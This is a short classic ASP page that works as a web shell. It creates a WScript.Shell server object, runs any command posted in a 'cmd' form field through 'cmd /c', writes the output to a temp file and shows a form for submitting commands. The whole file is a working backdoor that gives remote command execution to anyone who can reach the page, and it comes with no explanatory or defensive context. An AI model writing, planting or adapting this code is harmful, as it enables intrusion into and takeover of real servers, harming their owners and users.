<object runat="server" id="sh" scope="page" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<%
If Request.Form("cmd") <> "" Then
    sh.Run "cmd /c " & Request.Form("cmd") & " > c:\windows\temp\o.txt", 0, True
End If
%>
<form method="post"><input name="cmd"><input type="submit"></form>
